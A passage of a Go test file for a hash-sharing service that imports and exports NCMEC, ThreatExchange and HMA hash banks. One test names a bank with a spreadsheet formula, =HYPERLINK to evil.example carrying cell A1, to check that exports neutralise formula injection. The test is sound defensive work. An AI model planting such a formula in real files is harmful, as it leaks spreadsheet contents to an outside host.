package hashmatch_test

import (
	"context"
	"encoding/json"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"github.com/custos-project/custos/internal/apptest"
	"github.com/custos-project/custos/internal/errs"
	"github.com/custos-project/custos/internal/export"
	"github.com/custos-project/custos/internal/hashmatch"
	"github.com/custos-project/custos/internal/storetest"
)

// newBank creates a bank of the world's authority through the API.
func newBank(t *testing.T, w *apptest.HashmatchWorld, name string) string {
	t.Helper()
	return w.Must(t, 201, "POST", "/api/v1/hashmatch/banks", w.Analyst, map[string]any{"name": name}).Str("id")
}

// importList imports content in format into bank through the API and
// returns the stats.
func importList(t *testing.T, w *apptest.HashmatchWorld, bank, format string, content []byte) hashmatch.ImportStats {
	t.Helper()
	r := w.Must(t, 201, "POST", "/api/v1/hashmatch/banks/"+bank+"/import", w.Analyst, map[string]any{"format": format, "content": string(content)})
	var out struct {
		Stats hashmatch.ImportStats `json:"stats"`
	}
	jsonUnmarshal(t, string(r.Raw), &out)
	return out.Stats
}

// exportList exports bank's current version in format through the API.
func exportList(t *testing.T, w *apptest.HashmatchWorld, bank, format string) []byte {
	t.Helper()
	r := w.Do(t, "GET", "/api/v1/hashmatch/banks/"+bank+"/export?"+url.Values{"format": {format}}.Encode(), w.Analyst, nil)
	if r.Status != 200 {
		t.Fatalf("export %s %s: %d %s", bank, format, r.Status, r.Raw)
	}
	return r.Raw
}

// entries is a bank's current list, as custos's own format exports it.
func entries(t *testing.T, w *apptest.HashmatchWorld, bank string) []hashmatch.DocEntry {
	t.Helper()
	var v hashmatch.NewVersion
	jsonUnmarshal(t, string(exportList(t, w, bank, hashmatch.FormatJSON)), &v)
	return v.Adds
}

func ncmecPage(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "ncmec", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestNCMECv2Pages imports NCMEC's documented v2 pages one after another,
// as custos is fed a paged query: adds, deletions of images and videos,
// videos with and without vPDQ, an update of a video, and the last page;
// what the bank cannot hold is counted and named, and a deletion deletes.
func TestNCMECv2Pages(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		bank := newBank(t, w, "NCMEC feed")

		st := importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page1.xml"))
		if st.Adds != 3 || st.Deletes != 0 || st.Skipped != 3 || !strings.Contains(st.Next, "start=2001") {
			t.Fatalf("page 1: %+v", st)
		}
		rules := map[string]string{}
		for _, n := range st.NotHeld {
			rules[n.Rule+":"+n.What] = strings.Join(n.First, ",")
		}
		for k, v := range map[string]string{"image_without_pdq:md5,sha1,pdna": "image2",
			"delete_not_held:": "image4,video4", "fingerprint:sha1": "image1,video1", "fingerprint:pdna": "image1"} {
			if rules[k] != v {
				t.Errorf("page 1: %s names %q, want %q (%+v)", k, rules[k], v, st.NotHeld)
			}
		}
		if st := importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page2.xml")); st.Adds != 1 || !strings.Contains(st.Next, "start=3001") {
			t.Errorf("page 2: %+v", st)
		}
		if st := importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page3.xml")); st.Adds != 2 {
			t.Errorf("page 3: %+v", st)
		}
		// Page 4 changes willupdate's classification: the version updates it.
		st = importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page4.xml"))
		if st.Adds != 0 || st.Deletes != 1 || st.Updates != 1 || st.Skipped != 0 || st.Next != "" {
			t.Errorf("page 4: %+v", st)
		}

		// A page with nothing the bank can hold publishes nothing and says why.
		r := w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/import", w.Analyst,
			map[string]any{"format": "ncmec", "content": ncmecVideoWithoutHash})
		if r.Status != 422 || r.Str("error.rule") != "empty_version" || !strings.Contains(string(r.Raw), "tmk-pdqf") {
			t.Errorf("no vPDQ, no MD5: %d %s", r.Status, r.Raw)
		}
		// The same page again: what it holds is held already (or deleted
		// since, by page 4), so nothing is published and the answer says
		// unchanged, with the current version.
		r = w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/import", w.Analyst,
			map[string]any{"format": "ncmec", "content": string(ncmecPage(t, "page1.xml"))})
		if ver, _ := r.Body["version"].(map[string]any); r.Status != 200 || ver["unchanged"] != true || ver["version"] != float64(4) ||
			!strings.Contains(string(r.Raw), "already_held") {
			t.Errorf("page 1 again: %d %s", r.Status, r.Raw)
		}

		var ids []string
		for _, e := range entries(t, w, bank) {
			ids = append(ids, e.EntryID+"/"+e.Classification)
		}
		if got := strings.Join(ids, " "); got != "image1/A1 image10/A1 video1/unspecified video2/A1 willupdate/A2" {
			t.Errorf("bank holds %s", got)
		}
		// Version 3 (page 3) held the video that page 4 deleted, and
		// willupdate as it was before page 4 updated it.
		for v, want := range map[string]bool{"3": true, "4": false} {
			r := w.Do(t, "GET", "/api/v1/hashmatch/banks/"+bank+"/export?format=json&version="+v, w.Analyst, nil)
			var got hashmatch.NewVersion
			jsonUnmarshal(t, string(r.Raw), &got)
			class := map[string]string{}
			for _, e := range got.Adds {
				class[e.EntryID] = e.Classification
			}
			if _, ok := class["willdelete"]; ok != want {
				t.Errorf("version %s holds willdelete: %v, want %v: %d %s", v, ok, want, r.Status, r.Raw)
			}
			if wantClass := map[string]string{"3": "A1", "4": "A2"}[v]; class["willupdate"] != wantClass {
				t.Errorf("version %s: willupdate is %q, want %q", v, class["willupdate"], wantClass)
			}
		}
		// The update is in the log: version 4's signed delta carries it.
		w.Subscribe(t, bank)
		pull := w.Must(t, 200, "POST", "/api/v1/hashmatch/banks/"+bank+"/pull", w.Service, map[string]any{"since": 3})
		delta := pull.Body["documents"].([]any)[0].(map[string]any)["note"].(string)
		d, _, err := hashmatch.OpenDoc([]byte(delta), w.Must(t, 200, "GET", "/api/v1/hashmatch/key", "", nil).Str("verifier_key"))
		if err != nil || len(d.Updates) != 1 || d.Updates[0].EntryID != "willupdate" || d.Updates[0].Classification != "A2" || len(d.Adds) != 0 {
			t.Errorf("version 4's delta: %v %+v", err, d)
		}
		// Page 3 again: willupdate goes back to A1; willdelete, deleted,
		// is not restored under its old id, and is named.
		st = importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page3.xml"))
		if st.Updates != 1 || st.Adds != 0 || st.Skipped != 1 || st.NotHeld[0].Rule != hashmatch.NotHeldWithdrawn || st.NotHeld[0].First[0] != "willdelete" {
			t.Errorf("page 3 again: %+v", st)
		}
	})
}

// TestListRoundTrip exports a bank in each format, imports the file into
// another bank, exports that and imports it again: the two imported banks
// are the same, and the same as the first wherever the format carries
// everything the first holds.
func TestListRoundTrip(t *testing.T) {
	const (
		p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
		p2 = "30a10efd71cc3d429013d48d0ffffc52e34e0e17ada952a9d29685211ea9e5af"
		p3 = "53ea76ff5f9e8683a57576b6f6980ac7cb88939f4f566d4df368af2f4f4f272b"
		p4 = "6c042fcc5cd48cb4aa94d0d45d0e308dcffd4755b9f12b5468257493b2ba28b5"
	)
	md5, sha := strings.Repeat("ab", 16), strings.Repeat("cd", 32)
	video := &hashmatch.VideoHash{Frames: []hashmatch.VideoFrame{{PDQ: p3, Quality: 100, Seconds: 0}, {PDQ: p4, Quality: 60, Seconds: 1.5}}}
	img := func(id, pdq, class string, digests bool) hashmatch.DocEntry {
		e := hashmatch.DocEntry{EntryID: id, PDQ: pdq, Classification: class}
		if digests {
			e.MD5, e.SHA256 = md5, sha
		}
		return e
	}
	vid := func(id, class string, withMD5 bool) hashmatch.DocEntry {
		e := hashmatch.DocEntry{EntryID: id, Video: video, Classification: class}
		if withMD5 {
			e.MD5 = md5
		}
		return e
	}
	// A video known by its MD5 alone; TE names it by its MD5.
	md5Only := func(id, class string) hashmatch.DocEntry {
		return hashmatch.DocEntry{EntryID: id, MD5: strings.Repeat("fe", 16), Video: &hashmatch.VideoHash{}, Classification: class}
	}
	rich := []hashmatch.DocEntry{img("17", p1, "vic-1", true), img("img-b", p2, "A1", false), vid("vid-c", "B1", true), md5Only("vid-d", "B2")}
	cases := []struct {
		format string
		src    []hashmatch.DocEntry // what the format carries in full
		ids    bool                 // whether it carries entry ids
	}{
		{hashmatch.FormatHex, []hashmatch.DocEntry{img("a", p1, "A1", false), img("b", p2, "unspecified", false)}, true},
		{hashmatch.FormatNCMEC, rich, true},
		{hashmatch.FormatProjectVIC, []hashmatch.DocEntry{img("17", p1, "vic-1", true), img("m-18", p2, "vic-unspecified", false)}, true},
		{hashmatch.FormatJSON, rich, true},
		{hashmatch.FormatTECSV, []hashmatch.DocEntry{img("x", p1, "A1", false), md5Only("y", "A2"), vid("z", "unspecified", false)}, false},
		{hashmatch.FormatTETSV, []hashmatch.DocEntry{img("x", p1, "unspecified", false), md5Only("y", "unspecified"), vid("z", "B2", false)}, false},
		{hashmatch.FormatHMA, []hashmatch.DocEntry{img("1", p1, "unspecified", false), vid("v-2", "unspecified", true), md5Only("v-3", "unspecified")}, true},
	}
	storetest.Each(t, func(t *testing.T, dsn string) {
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		for _, c := range cases {
			a := newBank(t, w, c.format+" source")
			w.Must(t, 201, "POST", "/api/v1/hashmatch/banks/"+a+"/versions", w.Analyst, hashmatch.NewVersion{Adds: c.src})
			file1 := exportList(t, w, a, c.format)
			b := newBank(t, w, c.format+" first import")
			if st := importList(t, w, b, c.format, file1); st.Adds != len(c.src) || st.Skipped != 0 {
				t.Errorf("%s: first import %+v\n%s", c.format, st, file1)
			}
			file2 := exportList(t, w, b, c.format)
			cc := newBank(t, w, c.format+" second import")
			importList(t, w, cc, c.format, file2)
			eb, ec := entries(t, w, b), entries(t, w, cc)
			if !reflect.DeepEqual(eb, ec) {
				t.Errorf("%s: import → export → import changed the bank:\n%+v\n%+v", c.format, eb, ec)
			}
			ea := entries(t, w, a)
			if !c.ids {
				for i := range ea {
					ea[i].EntryID, eb[i].EntryID = "", ""
				}
			}
			if !reflect.DeepEqual(ea, eb) {
				t.Errorf("%s: the file does not carry the bank:\n%+v\n%+v\n%s", c.format, ea, eb, file1)
			}
		}

		// A bank holding more than a format carries: the export counts
		// and names what it left out.
		bank := newBank(t, w, "Rich")
		w.Must(t, 201, "POST", "/api/v1/hashmatch/banks/"+bank+"/versions", w.Analyst, hashmatch.NewVersion{Adds: rich})
		p := w.Principal(t, w.Analyst)
		want := map[string]string{
			hashmatch.FormatHex:        "digest:md5:17 digest:sha256:17 video_entry::vid-c,vid-d",
			hashmatch.FormatNCMEC:      "",
			hashmatch.FormatProjectVIC: "classification:A1:img-b video_entry::vid-c,vid-d",
			hashmatch.FormatJSON:       "",
			hashmatch.FormatTECSV:      "entry_id::17,img-b,vid-c,vid-d digest:md5:17,vid-c digest:sha256:17",
			hashmatch.FormatHMA:        "digest:md5:17 digest:sha256:17 classification:vic-1:17 classification:A1:img-b classification:B1:vid-c classification:B2:vid-d",
		}
		for format, left := range want {
			st, err := w.App.Hashmatch.ExportBank(context.Background(), p, bank, 0, format, nil, io.Discard)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, n := range st.LeftOut {
				got = append(got, n.Rule+":"+n.What+":"+strings.Join(n.First, ","))
			}
			if strings.Join(got, " ") != left || st.Entries+st.Skipped != len(rich) {
				t.Errorf("%s: left out %q, want %q (%+v)", format, got, left, st)
			}
		}
		// A bank's name is a cell of every row of a ThreatExchange file:
		// one a spreadsheet would run as a formula is quoted.
		formula := newBank(t, w, `=HYPERLINK("http://evil.example/?x="&A1,"click")`)
		w.Must(t, 201, "POST", "/api/v1/hashmatch/banks/"+formula+"/versions", w.Analyst, hashmatch.NewVersion{Adds: rich[:1]})
		for _, format := range []string{hashmatch.FormatTECSV, hashmatch.FormatTETSV} {
			lines := strings.Split(string(exportList(t, w, formula, format)), "\n")
			if len(lines) < 2 || !strings.HasPrefix(lines[1], `"'=HYPERLINK(`) && !strings.HasPrefix(lines[1], `'=HYPERLINK(`) {
				t.Errorf("%s: a bank named as a formula exports as %q", format, lines)
			}
		}
		// Only the owner's analysts export a bank's hashes; bad formats
		// and versions are refused.
		for _, bad := range []struct {
			token, query string
			status       int
		}{{w.OtherAnalyst, "format=hex", 403}, {w.Service, "format=hex", 403}, {w.Analyst, "format=csv", 422}, {w.Analyst, "format=hex&version=2", 422},
			{w.Analyst, "format=hex&version=x", 422}, {w.Analyst, "format=hex&format=json", 422}, {w.Analyst, "format=hex&version=1&version=1", 422}} {
			if r := w.Do(t, "GET", "/api/v1/hashmatch/banks/"+bank+"/export?"+bad.query, bad.token, nil); r.Status != bad.status {
				t.Errorf("%s: %d %s", bad.query, r.Status, r.Raw)
			}
		}
	})
}

// TestParseTEAndHMA reads ThreatExchange signal files and HMA bank
// content as python-threatexchange and HMA write them, with what custos
// does not hold.
func TestParseTEAndHMA(t *testing.T) {
	const p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
	csv := "collab,signal_type,signal_str,category,tags\n" +
		"Sample Data,pdq," + strings.ToUpper(p1) + ",POSITIVE_CLASS,A1 media_priority_s1\n" +
		"Other Collab,pdq," + p1 + ",POSITIVE_CLASS,A1\n" +
		"Sample Data,pdq,30a10efd71cc3d429013d48d0ffffc52e34e0e17ada952a9d29685211ea9e5af,NEGATIVE_CLASS,\n" +
		"Sample Data,video_md5,D41D8CD98F00B204E9800998ECF8427E,POSITIVE_CLASS,\n" +
		"Sample Data,raw_text,hello,POSITIVE_CLASS,\n" +
		`Sample Data,vpdq,"[""` + p1 + `,100,0.000"",""` + p1 + `,40,1.000""]",POSITIVE_CLASS,` + "\n"
	v, st, err := hashmatch.ParseList(hashmatch.FormatTECSV, []byte(csv))
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Adds) != 3 || v.Adds[0].EntryID != p1 || v.Adds[0].Classification != "A1" || v.Adds[2].Video == nil ||
		!strings.HasPrefix(v.Adds[2].EntryID, "vpdq-") || st.Skipped != 3 ||
		v.Adds[1].EntryID != "d41d8cd98f00b204e9800998ecf8427e" || v.Adds[1].MD5 != v.Adds[1].EntryID || v.Adds[1].Video == nil || len(v.Adds[1].Video.Frames) != 0 {
		t.Errorf("te: %+v %+v", v, st)
	}
	var got []string
	for _, n := range st.NotHeld {
		got = append(got, n.Rule+":"+n.What+":"+strings.Join(n.First, ","))
	}
	if strings.Join(got, " ") != "tags::line 2 duplicate::line 3 not_positive:NEGATIVE_CLASS:line 4 signal_type:raw_text:line 6" {
		t.Errorf("te not held: %s", got)
	}
	for in, where := range map[string]string{
		"signal_type,signal_str\npdq,zz\n":                       "line 2",
		"signal_type,signal_str,extra\npdq," + p1 + ",x\n":       "extra",
		"collab,signal_str\nc," + p1 + "\n":                      "signal_type",
		"signal_type,signal_str\npdq," + p1 + "\nvpdq,[\"x\"]\n": "line 3",
	} {
		if _, _, err := hashmatch.ParseList(hashmatch.FormatTECSV, []byte(in)); err == nil || !strings.Contains(err.Error(), where) {
			t.Errorf("%q: want a refusal naming %s, got %v", in, where, err)
		}
	}

	hma := `[{"id": 1234, "bank": "TEST_BANK", "enabled": true, "original_media_uri": null, "signals": {"pdq": "` + p1 + `"}},
	 {"id": 1235, "bank": "TEST_BANK", "enabled": false, "original_media_uri": null, "signals": {"pdq": "` + p1 + `"}},
	 {"id": 1236, "bank": "TEST_BANK", "enabled": true, "signals": {"video_md5": "d41d8cd98f00b204e9800998ecf8427e"}},
	 {"id": "v-7", "bank": "TEST_BANK", "enabled": true, "signals": {"vpdq": "[\"` + p1 + `,90,0.000\"]", "video_md5": "D41D8CD98F00B204E9800998ECF8427E", "tmk": "x"}}]`
	v, st, err = hashmatch.ParseList(hashmatch.FormatHMA, []byte(hma))
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Adds) != 3 || v.Adds[0].EntryID != "1234" || v.Adds[1].EntryID != "1236" || v.Adds[1].Video == nil || len(v.Adds[1].Video.Frames) != 0 ||
		v.Adds[2].MD5 != "d41d8cd98f00b204e9800998ecf8427e" || st.Skipped != 1 {
		t.Errorf("hma: %+v %+v", v, st)
	}
	got = nil
	for _, n := range st.NotHeld {
		got = append(got, n.Rule+":"+n.What+":"+strings.Join(n.First, ","))
	}
	if strings.Join(got, " ") != "disabled::1235 fingerprint:tmk:v-7" {
		t.Errorf("hma not held: %s", got)
	}
	for _, bad := range []string{`{"id":1}`, `[{"id":1,"signals":{"pdq":"zz"}}]`, `[{"id":1,"extra":2}]`,
		`[{"id":1,"signals":{"pdq":"` + p1 + `","vpdq":"[]"}}]`, `[{"id":"a b","signals":{}}]`} {
		if _, _, err := hashmatch.ParseList(hashmatch.FormatHMA, []byte(bad)); err == nil {
			t.Errorf("%s: accepted", bad)
		} else if raw, _ := json.Marshal(err); len(raw) == 0 {
			t.Errorf("%s: %v", bad, err)
		}
	}
}

// TestUpdateRoundTrip updates an image's hash and another's classification
// through an import: the bank's next version holds the new content, matching
// follows it, the older version's export keeps the old one, and export →
// import of each version into a fresh bank gives that version.
func TestUpdateRoundTrip(t *testing.T) {
	const (
		p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
		p2 = "30a10efd71cc3d429013d48d0ffffc52e34e0e17ada952a9d29685211ea9e5af"
		p3 = "53ea76ff5f9e8683a57576b6f6980ac7cb88939f4f566d4df368af2f4f4f272b"
	)
	storetest.Each(t, func(t *testing.T, dsn string) {
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		bank := newBank(t, w, "Updated")
		importList(t, w, bank, hashmatch.FormatHex, []byte(p1+" A1 e1\n"+p2+" A1 e2\n"))
		w.Subscribe(t, bank)
		match := func(h string) string {
			r := w.Must(t, 200, "POST", "/api/v1/hashmatch/match", w.Service, map[string]any{"items": []any{map[string]any{"pdq": h, "quality": 90}}})
			return r.Body["results"].([]any)[0].(map[string]any)["status"].(string)
		}
		if match(p1) != hashmatch.StatusMatch || match(p3) != hashmatch.StatusNoMatch {
			t.Fatal("before the update")
		}
		st := importList(t, w, bank, hashmatch.FormatHex, []byte(p3+" A1 e1\n"+p2+" B2 e2\n"))
		if st.Updates != 2 || st.Adds != 0 || st.Skipped != 0 {
			t.Fatalf("update: %+v", st)
		}
		if match(p1) != hashmatch.StatusNoMatch || match(p3) != hashmatch.StatusMatch {
			t.Error("matching does not follow the update")
		}
		want := map[int][]hashmatch.DocEntry{
			1: {{EntryID: "e1", PDQ: p1, Classification: "A1"}, {EntryID: "e2", PDQ: p2, Classification: "A1"}},
			2: {{EntryID: "e1", PDQ: p3, Classification: "A1"}, {EntryID: "e2", PDQ: p2, Classification: "B2"}},
		}
		for v, es := range want {
			r := w.Must(t, 200, "GET", "/api/v1/hashmatch/banks/"+bank+"/export?format=json&version="+strconv.Itoa(v), w.Analyst, nil)
			var got hashmatch.NewVersion
			jsonUnmarshal(t, string(r.Raw), &got)
			if !reflect.DeepEqual(got.Adds, es) {
				t.Errorf("version %d: %+v, want %+v", v, got.Adds, es)
			}
			copyBank := newBank(t, w, "copy of version "+strconv.Itoa(v))
			importList(t, w, copyBank, hashmatch.FormatJSON, r.Raw)
			if got := entries(t, w, copyBank); !reflect.DeepEqual(got, es) {
				t.Errorf("version %d imported again: %+v", v, got)
			}
		}
		// Publishing an update of an entry the bank does not hold is refused.
		r := w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/versions", w.Analyst,
			hashmatch.NewVersion{Updates: []hashmatch.DocEntry{{EntryID: "e9", PDQ: p1}}})
		if r.Status != 409 || r.Str("error.rule") != "no_live_entry" || r.Str("error.field") != "updates[0].entry_id" {
			t.Errorf("update of no entry: %d %s", r.Status, r.Raw)
		}
		// Each refusal names the entry's place in the request, not the
		// list: the third add, the second delete.
		r = w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/versions", w.Analyst,
			hashmatch.NewVersion{Adds: []hashmatch.DocEntry{{EntryID: "n1", PDQ: p1}, {EntryID: "n2", PDQ: p2}, {EntryID: "e2", PDQ: p3}}})
		if r.Status != 409 || r.Str("error.rule") != "entry_exists" || r.Str("error.field") != "adds[2].entry_id" {
			t.Errorf("add of an entry held: %d %s", r.Status, r.Raw)
		}
		r = w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/versions", w.Analyst,
			hashmatch.NewVersion{Deletes: []string{"e1", "e7"}})
		if r.Status != 409 || r.Str("error.rule") != "no_live_entry" || r.Str("error.field") != "deletes[1]" {
			t.Errorf("delete of no entry: %d %s", r.Status, r.Raw)
		}
		r = w.Do(t, "POST", "/api/v1/hashmatch/banks/"+bank+"/versions", w.Analyst,
			hashmatch.NewVersion{Updates: []hashmatch.DocEntry{{EntryID: "e1", PDQ: p1}}, Deletes: []string{"e1"}})
		if r.Status != 422 || r.Str("error.rule") != "add_and_delete" {
			t.Errorf("update and delete: %d %s", r.Status, r.Raw)
		}
	})
}

// ncmecVideoWithoutHash is a page whose one video has neither vPDQ nor an
// MD5: nothing a bank can hold.
const ncmecVideoWithoutHash = `<queryResult xmlns="https://hashsharing.ncmec.org/hashsharing/v2"><videos count="1" maxTimestamp="2019-11-24T15:10:00Z">
<video><member id="101">TX Example</member><timestamp>2019-11-24T15:10:00Z</timestamp><id>nohash</id>
<fingerprints><sha1>b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1</sha1><tmk-pdqf rel="self" href="/v2/entries/1/fingerprints/TMK_PDQF"/></fingerprints></video>
</videos></queryResult>`

// TestNotHeldInTheReadersLanguage: what an import could not hold comes back
// with its rule, the code machines read, and its message in the language of
// the request (Accept-Language), English without one.
func TestNotHeldInTheReadersLanguage(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		for lang, want := range map[string]string{
			"fr": "images sans hachage PDQ (custos compare les images par PDQ ; leurs seules empreintes ne sont pas conservées)",
			"":   "images without a PDQ hash (custos matches images by PDQ; their digests alone are not held)",
		} {
			bank := newBank(t, w, "NCMEC feed "+lang)
			body, err := json.Marshal(map[string]any{"format": "ncmec", "content": string(ncmecPage(t, "page1.xml"))})
			if err != nil {
				t.Fatal(err)
			}
			r := w.Upload(t, "/api/v1/hashmatch/banks/"+bank+"/import", w.Analyst, "application/json", body, "Accept-Language", lang)
			var out struct {
				Stats hashmatch.ImportStats `json:"stats"`
			}
			jsonUnmarshal(t, string(r.Raw), &out)
			got := map[string]string{}
			for _, n := range out.Stats.NotHeld {
				got[n.Rule] = n.Message
			}
			if r.Status != 201 || got[hashmatch.NotHeldImageWithoutPDQ] != want || got[hashmatch.NotHeldDeleteUnknown] == "" {
				t.Errorf("Accept-Language %q: %d %v", lang, r.Status, got)
			}
		}
	})
}

// TestVersionUpdatesCounted: a version's answer, the versions list and the
// versions export count its updates beside its adds and deletes, and
// migration 9 counts them from the documents of versions published before
// it (its statement run again over the column set to 0 gives the same
// counts, whatever the bank's name holds).
func TestVersionUpdatesCounted(t *testing.T) {
	const (
		p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
		p2 = "30a10efd71cc3d429013d48d0ffffc52e34e0e17ada952a9d29685211ea9e5af"
		p3 = "53ea76ff5f9e8683a57576b6f6980ac7cb88939f4f566d4df368af2f4f4f272b"
	)
	sqlFile, err := os.ReadFile(filepath.Join("schema", "009_version_updates.sql"))
	if err != nil {
		t.Fatal(err)
	}
	var backfill string
	for _, line := range strings.Split(string(sqlFile), "\n") {
		if strings.HasPrefix(line, "UPDATE hm_versions") {
			backfill = line
		}
	}
	if backfill == "" {
		t.Fatal("migration 9 has no UPDATE of hm_versions")
	}
	storetest.Each(t, func(t *testing.T, dsn string) {
		ctx := context.Background()
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		bank := newBank(t, w, `Tricky "entry_id": name`)
		versions := "/api/v1/hashmatch/banks/" + bank + "/versions"
		video := map[string]any{"frames": []map[string]any{{"pdq": p3, "quality": 90, "seconds": 0}, {"pdq": p2, "quality": 90, "seconds": 1}}}
		w.Must(t, 201, "POST", versions, w.Analyst, map[string]any{"adds": []map[string]any{
			{"entry_id": "e1", "pdq": p1}, {"entry_id": "e2", "pdq": p2}, {"entry_id": "v1", "video": video}}})
		r := w.Must(t, 201, "POST", versions, w.Analyst, map[string]any{
			"adds":    []map[string]any{{"entry_id": "e3", "pdq": p3}},
			"updates": []map[string]any{{"entry_id": "e1", "pdq": p3}, {"entry_id": "e2", "pdq": p2, "classification": "B2"}},
			"deletes": []string{"v1"}})
		if r.Body["updates"] != 2.0 || r.Body["adds"] != 1.0 || r.Body["deletes"] != 1.0 {
			t.Fatalf("publish answer: %s", r.Raw)
		}
		want := map[int][3]int{1: {3, 0, 0}, 2: {1, 2, 1}}
		check := func(when string) {
			t.Helper()
			var got struct{ Versions []hashmatch.Version }
			jsonUnmarshal(t, string(w.Must(t, 200, "GET", versions, w.Analyst, nil).Raw), &got)
			if len(got.Versions) != len(want) {
				t.Fatalf("%s: %+v", when, got.Versions)
			}
			for _, v := range got.Versions {
				if c := [3]int{v.Adds, v.Updates, v.Deletes}; c != want[v.Version] {
					t.Errorf("%s: version %d counts %v (adds, updates, deletes), want %v", when, v.Version, c, want[v.Version])
				}
			}
		}
		check("published")
		csv := string(w.Must(t, 200, "GET", versions+"?format=csv", w.Analyst, nil).Raw)
		if !strings.Contains(csv, "adds,deletes,updates,") || !strings.Contains(csv, ",1,1,2,") {
			t.Errorf("versions export:\n%s", csv)
		}

		tx, err := w.App.DB.BeginWrite(ctx)
		if err != nil {
			t.Fatal(err)
		}
		defer tx.Rollback()
		if _, err := tx.Exec(ctx, "UPDATE hm_versions SET updates = 0"); err != nil {
			t.Fatal(err)
		}
		if _, err := tx.Exec(ctx, backfill); err != nil {
			t.Fatal(err)
		}
		if err := tx.Commit(); err != nil {
			t.Fatal(err)
		}
		check("counted again by migration 9")
		verifyLog(t, w)
	})
}

// TestTEExportQuotesEveryCell: in a ThreatExchange file, no text cell
// starts as a spreadsheet formula would, the tags included (a
// classification may start with -), and the file reads back the same.
func TestTEExportQuotesEveryCell(t *testing.T) {
	const p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
	entries := []hashmatch.DocEntry{{EntryID: p1, PDQ: p1, Classification: "-2-3"}}
	meta := hashmatch.ListMeta{Bank: "HB-1", Name: "=1+1", Owner: "CM-1", Version: 1}
	for _, format := range []string{hashmatch.FormatTECSV, hashmatch.FormatTETSV} {
		b, _, err := hashmatch.ExportList(format, meta, entries)
		if err != nil {
			t.Fatal(err)
		}
		sep := ","
		if format == hashmatch.FormatTETSV {
			sep = "\t"
		}
		lines := strings.Split(strings.TrimSpace(string(b)), "\n")
		for _, line := range lines[1:] {
			for _, cell := range strings.Split(line, sep) {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("%s: cell %q of %q starts as a formula", format, cell, line)
				}
			}
		}
		v, _, err := hashmatch.ParseList(format, b)
		if err != nil {
			t.Fatalf("%s: reading the export back: %v\n%s", format, err, b)
		}
		if len(v.Adds) != 1 || v.Adds[0].Classification != "-2-3" || v.Adds[0].PDQ != p1 {
			t.Errorf("%s: read back %+v", format, v.Adds)
		}
	}
}

// TestHexListLongLine: a line too long to be a hex list's is refused by its
// number and the limit, not by the scanner's own words.
func TestHexListLongLine(t *testing.T) {
	const p1 = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
	_, _, err := hashmatch.ParseList(hashmatch.FormatHex, []byte(p1+"\n"+p1+" "+strings.Repeat("x", 70000)+"\n"))
	e, ok := errs.As(err)
	if !ok || e.Rule != "hex_list" || e.Field != "content" || e.Message != "line 2 is longer than 65536 bytes" {
		t.Fatalf("a line of 70,000 bytes: %v", err)
	}
}

// TestBankExportNamesItsCheckpoint: a bank's export is logged with the
// checkpoint it was read at, its root as the signed checkpoint the registry
// served carries it, with its hex beside; and its answer names them, and
// the entry, in the headers every export's answer has (export.SetHeaders),
// as a list's file names them in its header block: a list format has no
// room for them. Before, the answer named no checkpoint.
func TestBankExportNamesItsCheckpoint(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		w := apptest.NewHashmatchWorld(t, dsn, hashmatch.Config{})
		bank := newBank(t, w, "NCMEC feed")
		importList(t, w, bank, hashmatch.FormatNCMEC, ncmecPage(t, "page1.xml"))
		cp := w.ServedRoot(t)
		r := w.Do(t, "GET", "/api/v1/hashmatch/banks/"+bank+"/export?format="+hashmatch.FormatHex, w.Analyst, nil)
		if r.Status != 200 {
			t.Fatalf("export: %d %s", r.Status, r.Raw)
		}
		for name, want := range map[string]string{
			export.LogSizeHeader: strconv.Itoa(cp.Size), export.LogRootHeader: cp.Base64, export.LogEntryHeader: strconv.Itoa(cp.Size),
			"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff",
			"Content-Disposition": `attachment; filename=` + bank + `-v1-hex.txt`,
		} {
			if got := r.Header.Get(name); got != want {
				t.Errorf("the bank export's header %s is %q, want %q", name, got, want)
			}
		}
		leaf := w.Must(t, 200, "GET", "/api/v1/log/entries/"+r.Header.Get(export.LogEntryHeader), w.Regulator, nil)
		var entry struct {
			Type string      `json:"type"`
			Data export.Made `json:"data"`
		}
		jsonUnmarshal(t, leaf.Str("data"), &entry)
		if entry.Type != export.TypeMade || entry.Data.List != "bank" || entry.Data.CheckpointSize != uint64(cp.Size) ||
